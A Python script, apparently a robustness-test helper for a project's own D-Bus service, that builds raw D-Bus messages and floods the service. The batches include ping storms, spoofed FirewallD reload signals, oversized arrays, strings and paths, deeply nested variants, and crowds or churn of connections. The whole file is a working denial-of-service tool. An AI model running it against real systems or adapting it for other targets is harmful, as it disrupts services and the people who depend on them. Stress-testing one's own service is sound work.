"""An unprivileged program that floods a service on D-Bus, by raw bytes: `attacker.py SOCKET DESTINATION KIND SECONDS`.

Needs nothing but Python, so it also runs in booted machines. It prints `attacking` after the first round of messages,
and at the end how many messages it sent in how many seconds since then. It fails if it cannot do the first round.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

PATH = "/io/github/flanneld_masq"
PEER, PROPERTIES = "org.freedesktop.DBus.Peer", "org.freedesktop.DBus.Properties"
MANAGER = "io.github.flanneld_masq.Manager1"
CALL, SIGNAL = 1, 4
NO_REPLY = 1
HUGE = 28_000_000
SENDERS = 200
ATTACKING = "attacking"


def text(value: str) -> bytes:
    return struct.pack("<I", len(value.encode())) + value.encode() + b"\0"


def message(
    destination: str,
    interface: str,
    member: str,
    *,
    kind: int = CALL,
    path: str = PATH,
    signature: str = "",
    body: bytes = b"",
    flags: int = 0,
    serial: int = 1,
) -> bytes:
    """Return the bytes of one message."""
    fields = b""
    for code, of, value in ((1, b"o", path), (2, b"s", interface), (3, b"s", member), (6, b"s", destination)):
        if value:
            fields += b"\0" * (-len(fields) % 8) + bytes((code, 1)) + of + b"\0" + text(value)
    if signature:
        encoded = signature.encode()
        fields += b"\0" * (-len(fields) % 8) + b"\x08\x01g\0" + bytes((len(encoded),)) + encoded + b"\0"
    head = b"l" + bytes((kind, flags, 1)) + struct.pack("<III", len(body), serial, len(fields)) + fields
    return head + b"\0" * (-len(head) % 8) + body


class Sender:
    """One connection to the bus; what the bus sends is read and dropped."""

    def __init__(self, path: str) -> None:
        self._socket = socket.socket(socket.AF_UNIX)
        self._socket.connect(path)
        self._socket.sendall(b"\0AUTH EXTERNAL " + str(os.geteuid()).encode().hex().encode() + b"\r\n")
        self._socket.recv(999)
        bus = "org.freedesktop.DBus"
        self._socket.sendall(b"BEGIN\r\n" + message(bus, bus, "Hello", path="/org/freedesktop/DBus"))
        self._socket.recv(65536)

    def send(self, data: bytes) -> None:
        """Send it all. Raises OSError once the bus has ended the connection."""
        self._socket.setblocking(False)
        left = memoryview(data)
        while left:
            readable, writable, _ = select.select([self._socket], [self._socket], [], 1.0)
            if readable and not self._socket.recv(1 << 20):
                raise ConnectionError("the bus ended the connection")
            if writable:
                with contextlib.suppress(BlockingIOError):
                    left = left[self._socket.send(left) :]

    def finish(self) -> None:
        """Wait until the bus has taken everything."""
        self.send(message("org.freedesktop.DBus", PEER, "Ping", path="/"))
        self._socket.settimeout(5.0)
        self._socket.recv(1 << 20)

    def close(self) -> None:
        self._socket.close()


def nested(depth: int) -> bytes:
    """Return a variant within a variant, and so on; the bus allows 64 levels."""
    return b"\x01v\0" * (depth - 1) + b"\x01y\0\x07"


def messages(kind: str, destination: str) -> bytes:
    """Return a batch of one kind of message."""
    ping = (destination, PEER, "Ping")

    def numbers() -> bytes:
        return struct.pack("<I", HUGE) + bytes(HUGE)

    batches: dict[str, Callable[[], bytes]] = {
        "pings": lambda: message(*ping) * 200,
        "silent-pings": lambda: message(*ping, flags=NO_REPLY) * 200,
        "statuses": lambda: message(destination, MANAGER, "GetStatus") * 200,
        "all-properties": lambda: message(destination, PROPERTIES, "GetAll", signature="s", body=text(MANAGER)) * 200,
        "signals": lambda: message(destination, "org.example", "Noise", kind=SIGNAL) * 200,
        "reloads": lambda: message(destination, "org.fedoraproject.FirewallD1", "Reloaded", kind=SIGNAL) * 200,
        "huge-arrays": lambda: message(*ping, signature="ai", body=numbers()),
        "huge-bytes": lambda: message(*ping, signature="ay", body=numbers()),
        "huge-strings": lambda: message(
            destination, PROPERTIES, "GetAll", signature="s", body=text("x" * (HUGE // 4)), flags=NO_REPLY
        ),
        "huge-signals": lambda: message(
            destination, "org.example", "Noise", kind=SIGNAL, signature="ai", body=numbers()
        ),
        "long-paths": lambda: message(*ping, path="/" + "a" * 1_000_000),
        "many-arrays": lambda: message(*ping, signature="aai", body=struct.pack("<I", 4000) + bytes(4000)) * 100,
        "deep-variants": lambda: message(*ping, signature="v", body=nested(60)) * 200,
        "wide": lambda: message(*ping, signature="y" * 255, body=bytes(255)) * 100,
        "large": lambda: message(*ping, signature="ay", body=struct.pack("<I", 60_000) + bytes(60_000)) * 10,
    }
    return batches[kind]()


KINDS = (
    *("pings", "silent-pings", "statuses", "all-properties", "signals", "reloads", "huge-arrays", "huge-bytes"),
    *("huge-strings", "huge-signals", "long-paths", "many-arrays", "deep-variants", "wide", "large"),
)
CROWDS = ("crowd", "churn")  # many senders at once, and ever new ones


def rounds(kind: str, path: str, destination: str) -> Iterator[int]:
    """Attack once for each step; yield the number of messages."""
    if kind == "crowd":
        batch, crowd = messages("all-properties", destination), [Sender(path) for _ in range(SENDERS)]
        while True:
            for sender in crowd:
                sender.send(batch)
                yield 200
    batch = messages("all-properties" if kind == "churn" else kind, destination)
    count = batch.count(b"l\x01\x00\x01") + batch.count(b"l\x01\x01\x01") + batch.count(b"l\x04\x00\x01")
    sender = Sender(path)
    while True:
        try:
            sender.send(batch)
        except OSError:  # the bus ended it
            sender.close()
            sender = Sender(path)
        yield count
        if kind == "churn":
            sender.close()
            sender = Sender(path)


def attack(path: str, destination: str, kind: str, seconds: float) -> None:
    """Attack for so many seconds after a first round. Raises OSError if that round fails; the bus may end others."""
    attacks = rounds(kind, path, destination)
    sent, began = next(attacks), time.monotonic()
    print(ATTACKING, flush=True)
    with contextlib.suppress(OSError):
        while time.monotonic() - began < seconds:
            sent += next(attacks)
    print(sent, f"{time.monotonic() - began:.2f}", flush=True)


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
